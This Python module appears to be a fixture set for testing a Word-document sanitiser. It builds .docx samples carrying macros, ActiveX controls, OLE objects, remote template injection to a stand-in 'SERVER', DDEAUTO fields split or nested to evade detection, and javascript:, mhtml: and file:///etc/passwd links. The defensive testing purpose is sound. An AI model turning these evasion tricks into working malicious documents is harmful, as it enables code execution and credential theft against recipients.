"""Attacks by what Word does when it opens a file: macros, objects, links and fields."""

from collections.abc import Callable

import small_papers as d
from attack_packages import SOUND, TYPES, body, having, zipped

Build = Callable[[], bytes]
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
MICROSOFT = "http://schemas.microsoft.com/office/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships"
UNSAFE, FIELD, EMBEDDED, STRIPPED = (
    "unsafe-package",
    "active-field",
    "embedded-object",
    "stripped-content",
)
DOCUMENT, ROOT = "word/_rels/document.xml.rels", "_rels/.rels"
SETTINGS = "word/_rels/settings.xml.rels"


def tied(
    kind: str,
    target: str,
    *,
    rels: str = DOCUMENT,
    external: bool = True,
    base: str = OFFICE,
    members: dict[str, bytes] | None = None,
    tag: str = "Relationship",
) -> Build:
    """Add a tie to a part, and the members it leads to."""

    def build() -> bytes:
        mode = ' TargetMode="External"' if external else ""
        tie = f'<{tag} Id="evil" Type="{base}/{kind}" Target="{target}"{mode}/>'
        empty = f'<Relationships xmlns="{PACKAGE}" xmlns:r="{PACKAGE}"></Relationships>'
        before = SOUND.get(rels, empty.encode()).decode()
        if tag != "Relationship":
            before = before.replace("<Relationships ", f'<Relationships xmlns:r="{PACKAGE}" ', 1)
        after = before.replace("</Relationships>", tie + "</Relationships>")
        return zipped({**SOUND, rels: after.encode(), **(members or {})})

    return build


def typed(kind: str) -> Build:
    """Declare a part of some content type under a harmless name."""
    declared = f'<Override PartName="/word/a.bin" ContentType="{kind}"/></Types>'.encode()
    types = SOUND[TYPES].replace(b"</Types>", declared)
    return lambda: zipped({**SOUND, TYPES: types, "word/a.bin": b"a"})


def field(*pieces: str, separate: bool = True) -> str:
    """Write a field whose instruction is split over runs."""
    char = '<w:r><w:fldChar w:fldCharType="{}"/></w:r>'
    runs = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    result = char.format("separate") + "<w:r><w:t>章</w:t></w:r>" if separate else ""
    return char.format("begin") + runs + result + char.format("end")


def paragraph(xml: str) -> str:
    """Put runs into a paragraph."""
    return f"<w:p>{xml}</w:p>"


def simple(instruction: str) -> str:
    """Write a field in one element."""
    return f'<w:p><w:fldSimple w:instr="{instruction}"><w:r><w:t>章</w:t></w:r></w:fldSimple></w:p>'


def part(name: str, kind: str, tag: str, inside: str) -> Build:
    """Add a part of text with something in it."""
    xml = f'<w:{tag} xmlns:w="{d.W}">{inside}</w:{tag}>'
    return lambda: d.with_part(d.paper("正文"), name, xml, kind)


def _nested() -> str:
    quoted = field("QUOTE 68 68 69")
    begin = '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
    end = '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    return paragraph(f"{begin}{quoted}<w:r><w:instrText> cmd </w:instrText></w:r>{end}")


def _half_nested() -> str:
    begin = '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DD</w:instrText></w:r>'
    end = '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    return paragraph(f"{begin}{field('QUOTE E')}{end}")


def _within_if() -> str:
    begin = '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>IF 1 = 1 </w:instrText></w:r>'
    end = '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    inner = field("DDEAUTO cmd a")
    return paragraph(f"{begin}{inner}{end}")


V = 'xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office"'


def drawing(attributes: str) -> str:
    """Write an old drawing with attributes on its picture."""
    return (
        f"<w:p><w:r><w:pict {V}><v:shape><v:imagedata {attributes}/></v:shape></w:pict></w:r></w:p>"
    )


def linked(target: str, *, kind: str = "hyperlink") -> Build:
    """Use a tie in the first paragraph."""
    link = f'<w:p><w:hyperlink r:id="evil" xmlns:r="{OFFICE}"><w:r><w:t>点这里</w:t></w:r></w:hyperlink></w:p>'

    def build() -> bytes:
        parts = d.members(tied(kind, target)())
        xml = parts["word/document.xml"].decode().replace("<w:body>", f"<w:body>{link}", 1)
        return zipped({**parts, "word/document.xml": xml.encode()})

    return build


def _settings(inside: str, rels: Build) -> Build:
    def build() -> bytes:
        parts = d.members(rels())
        xml = f'<w:settings xmlns:w="{d.W}" xmlns:r="{OFFICE}">{inside}</w:settings>'
        return zipped({**parts, "word/settings.xml": xml.encode()})

    return build


CUSTOM = {"customUI/customUI.xml": b"<customUI/>"}
CHART = "word/charts/_rels/chart1.xml.rels"
CHARTED = {
    DOCUMENT: d.members(tied("chart", "charts/chart1.xml", external=False)())[DOCUMENT].replace(
        b'"evil"', b'"chart"'
    ),
    "word/charts/chart1.xml": (
        b'<c:chartSpace xmlns:c="c" xmlns:r="r"><c:externalData r:id="evil"/></c:chartSpace>'
    ),
}
WORKBOOK = {"word/embeddings/a.xlsx": b"PK"}

_PROGRAMS: dict[str, tuple[str, Build]] = {
    "macros by name": (UNSAFE, having("word/vbaProject.bin", b"x")),
    "macros by another case": (UNSAFE, having("word/VbaProject.BIN", b"x")),
    "macro data": (UNSAFE, having("word/vbaData.xml", b"<a/>")),
    "macros by their tie": (UNSAFE, tied("vbaProject", "a.bin", external=False, base=MICROSOFT)),
    "macros by their type": (UNSAFE, typed("application/vnd.ms-office.vbaProject")),
    "a control by name": (UNSAFE, having("word/activeX/activeX1.xml", b"<a/>")),
    "a control by its tie": (UNSAFE, tied("control", "a.xml", external=False)),
    "a control by its type": (UNSAFE, typed("application/vnd.ms-office.activeX")),
    "a form that runs a macro": (
        UNSAFE,
        body('<w:p><w:r><w:ffData><w:entryMacro w:val="evil"/></w:ffData></w:r></w:p>'),
    ),
    "an object by its tie": (EMBEDDED, tied("oleObject", "embeddings/a.bin", external=False)),
    "an object by name": (EMBEDDED, having("word/embeddings/oleObject1.bin", b"x")),
    "an object by its type": (
        EMBEDDED,
        typed("application/vnd.openxmlformats-officedocument.oleObject"),
    ),
    "a file in the file": (EMBEDDED, tied("package", "embeddings/a.docx", external=False)),
    "other content": (EMBEDDED, tied("aFChunk", "a.html", external=False)),
    "a part of a master document": (FIELD, tied("subDocument", "a.docx", external=False)),
    "a frame": (UNSAFE, tied("frame", "a.htm", external=False)),
}
_NEEDLESS: dict[str, tuple[str, Build]] = {
    "a ribbon": (
        STRIPPED,
        tied(
            "ui/extensibility",
            "customUI/customUI.xml",
            rels=ROOT,
            external=False,
            base=MICROSOFT,
            members=CUSTOM,
        ),
    ),
    "toolbars": (
        STRIPPED,
        tied(
            "attachedToolbars",
            "a.bin",
            external=False,
            base=MICROSOFT,
            members={"word/a.bin": b"a"},
        ),
    ),
    "keys": (
        STRIPPED,
        tied(
            "keyMapCustomizations",
            "c.xml",
            external=False,
            base=MICROSOFT,
            members={"word/c.xml": b"<a/>"},
        ),
    ),
    "a pane of an add-in": (
        STRIPPED,
        tied(
            "webextensiontaskpanes",
            "word/p.xml",
            rels=ROOT,
            external=False,
            members={"word/p.xml": b"<a/>"},
        ),
    ),
    "a signature": (
        STRIPPED,
        tied(
            "digital-signature/origin",
            "_xmlsignatures/o.sigs",
            rels=ROOT,
            external=False,
            members={"_xmlsignatures/o.sigs": b""},
        ),
    ),
    "a local template": (
        STRIPPED,
        tied("attachedTemplate", "file:///C:\\a\\Normal.dotm", rels=SETTINGS),
    ),
    "a source of letters": (
        STRIPPED,
        _settings(
            '<w:mailMerge><w:dataSource r:id="evil"/></w:mailMerge>',
            tied("mailMergeSource", "file:///C:/a.xls", rels=SETTINGS),
        ),
    ),
    "a source of letters by query": (
        STRIPPED,
        _settings(
            '<w:mailMerge><w:connectString w:val="evil"/></w:mailMerge>', lambda: d.paper("正文")
        ),
    ),
    "the table behind a chart": (
        STRIPPED,
        tied(
            "package",
            "../embeddings/a.xlsx",
            rels=CHART,
            external=False,
            members=CHARTED | WORKBOOK,
        ),
    ),
    "a linked table behind a chart": (
        STRIPPED,
        tied(
            "oleObject",
            "file:///C:/a.xlsx",
            rels=CHART,
            members=CHARTED,
        ),
    ),
}
_LINKS: dict[str, tuple[str, Build]] = {
    "a remote template": (UNSAFE, tied("attachedTemplate", "http://SERVER/a.dotm", rels=SETTINGS)),
    "a template of a neighbour": (
        UNSAFE,
        tied("attachedTemplate", "\\\\host\\a\\a.dotm", rels=SETTINGS),
    ),
    "a template of a named host": (
        UNSAFE,
        tied("attachedTemplate", "file://host/a.dotm", rels=SETTINGS),
    ),
    "a template by four strokes": (
        UNSAFE,
        tied("attachedTemplate", "file:////host/a.dotm", rels=SETTINGS),
    ),
    "a linked picture": (UNSAFE, tied("image", "http://SERVER/a.png")),
    "a picture from a file": (UNSAFE, tied("image", "file:///etc/passwd")),
    "a picture of a neighbour": (UNSAFE, tied("image", "\\\\host\\a.png")),
    "a picture in a header": (
        UNSAFE,
        tied("image", "http://SERVER/a.png", rels="word/_rels/header1.xml.rels"),
    ),
    "a linked bullet": (
        UNSAFE,
        tied("image", "http://SERVER/a.png", rels="word/_rels/numbering.xml.rels"),
    ),
    "a linked object": (UNSAFE, tied("oleObject", "http://SERVER/a.rtf")),
    "a linked frame": (
        UNSAFE,
        tied("frame", "http://SERVER/a.htm", rels="word/_rels/webSettings.xml.rels"),
    ),
    "a linked part": (UNSAFE, tied("subDocument", "http://SERVER/a.docx")),
    "linked content": (UNSAFE, tied("aFChunk", "http://SERVER/a.html")),
    "a linked film": (UNSAFE, tied("video", "http://SERVER/a.mp4")),
    "a tie nobody knows": (UNSAFE, tied("evil", "http://SERVER/a")),
    "a tie of the package": (UNSAFE, tied("evil", "http://SERVER/a", rels=ROOT)),
    "a linked transformation": (UNSAFE, tied("transform", "http://SERVER/a.xsl", rels=SETTINGS)),
    "a tie under a prefix": (UNSAFE, tied("image", "http://SERVER/a.png", tag="r:Relationship")),
    "a tie that is called internal": (UNSAFE, tied("image", "http://SERVER/a.png", external=False)),
    "a tie in disguise": (
        UNSAFE,
        lambda: zipped(
            {
                key: data.replace(b'"External"', b'"&#69;xter&#110;al"')
                for key, data in d.members(tied("image", "http://SERVER/a.png")()).items()
            }
        ),
    ),
    "ties in 16 bits": (
        UNSAFE,
        lambda: zipped(
            {
                key: data.decode().replace("UTF-8", "UTF-16").encode("utf-16")
                if key == DOCUMENT
                else data
                for key, data in d.members(tied("image", "http://SERVER/a.png")()).items()
            }
        ),
    ),
    "a link to a file": (UNSAFE, linked("file:///C:/Windows/System32/calc.exe")),
    "a link to a neighbour": (UNSAFE, linked("\\\\host\\share\\a.exe")),
    "a link to a folder": (UNSAFE, linked("附件.docx")),
    "a link that is a script": (UNSAFE, linked("javascript:alert(1)")),
    "a link that is data": (UNSAFE, linked("data:text/html,evil")),
    "a link that opens a program": (UNSAFE, linked("ms-word:ofe|u|http://SERVER/a.docm")),
    "a link of mht": (UNSAFE, linked("mhtml:http://SERVER/a!x-usc:http://SERVER/b")),
    "a link that looks like one": (UNSAFE, linked("http:\\\\host\\a")),
    "a page of the web": ("", linked("HTTPS://www.example.com/")),
    "a letter": ("", linked("mailto:a@example.com")),
}
_FIELDS: dict[str, tuple[str, Build]] = {
    **{
        f"{name} in one piece": (FIELD, body(simple(f"{name} &quot;http://SERVER/a&quot; a b")))
        for name in ("DDE", "DDEAUTO", "ddeauto", "INCLUDETEXT", "INCLUDEPICTURE", "INCLUDE")
    },
    **{
        f"{name} in pieces": (FIELD, body(paragraph(field(name[:2], name[2:], " a b"))))
        for name in ("DDEAUTO", "IMPORT", "LINK", "DATABASE", "MACROBUTTON", "PRINT", "RD ")
    },
    "a field with a quoted name": (FIELD, body(paragraph(field(' "DDE" a b')))),
    "a field without a result": (FIELD, body(paragraph(field("DDE a b", separate=False)))),
    "a field that is not closed": (
        FIELD,
        body(
            '<w:p><w:r><w:fldChar w:fldCharType="begin"/><w:instrText>DDE a</w:instrText></w:r></w:p>'
        ),
    ),
    "a field over two paragraphs": (
        FIELD,
        body(
            '<w:p><w:r><w:fldChar w:fldCharType="begin"/><w:instrText>DD</w:instrText></w:r></w:p>'
            '<w:p><w:r><w:instrText>E a b</w:instrText><w:fldChar w:fldCharType="end"/></w:r></w:p>'
        ),
    ),
    "a deleted field": (
        FIELD,
        body(
            '<w:p><w:del><w:r><w:fldChar w:fldCharType="begin"/><w:delInstrText>DDE a b</w:delInstrText>'
            '<w:fldChar w:fldCharType="end"/></w:r></w:del></w:p>'
        ),
    ),
    "a field whose name is worked out": (FIELD, body(_nested())),
    "a field whose name is half worked out": (FIELD, body(_half_nested())),
    "a field within a field": (FIELD, body(_within_if())),
    "a field in a text box": (
        FIELD,
        body(d.text_box("").replace("<w:r><w:t></w:t></w:r>", field("DDE a"))),
    ),
    "a field in a note": (
        FIELD,
        part(
            "footnotes",
            "footnotes",
            "footnotes",
            f'<w:footnote w:id="2">{simple("DDE a")}</w:footnote>',
        ),
    ),
    "a field in a header": (FIELD, part("header9", "header", "hdr", simple("DDE a"))),
    "a field in a comment": (FIELD, part("comments", "comments", "comments", simple("DDE a"))),
    "a field in a building block": (
        FIELD,
        having("word/glossary/document.xml", f'<a xmlns:w="{d.W}">{simple("DDE a")}</a>'.encode()),
    ),
    "a field that links to a file": (FIELD, body(simple("HYPERLINK &quot;file:///c:/a.exe&quot;"))),
    "a field that links to a neighbour": (FIELD, body(simple("HYPERLINK \\\\host\\a"))),
    "a field that links to what is filled in": (FIELD, body(simple("HYPERLINK {{ x }}"))),
    "a drawing from the network": (UNSAFE, body(drawing('src="http://SERVER/a.png"'))),
    "a drawing of a neighbour": (UNSAFE, body(drawing('src="\\\\host\\a.png"'))),
    "a drawing that links": (UNSAFE, body(drawing('href="file:///c:/a.exe"'))),
    "a drawing of another name": (UNSAFE, body(drawing('o:href="file://host/a.png"'))),
    "page numbers": ("", body(simple("PAGE \\* MERGEFORMAT"))),
    "a table of contents": ("", body(paragraph(field(' TOC \\o "1-3" \\h ')))),
    "a link within the paper": ("", body(paragraph(field("HYPERLINK \\l", ' "_Toc1"')))),
    "a link to a page": ("", body(simple("HYPERLINK &quot;https://www.example.com&quot;"))),
    "a sum of fields": ("", body(simple("= 1 + 2"))),
}

ATTACKS: dict[str, tuple[str, Build]] = {**_PROGRAMS, **_NEEDLESS, **_LINKS, **_FIELDS}
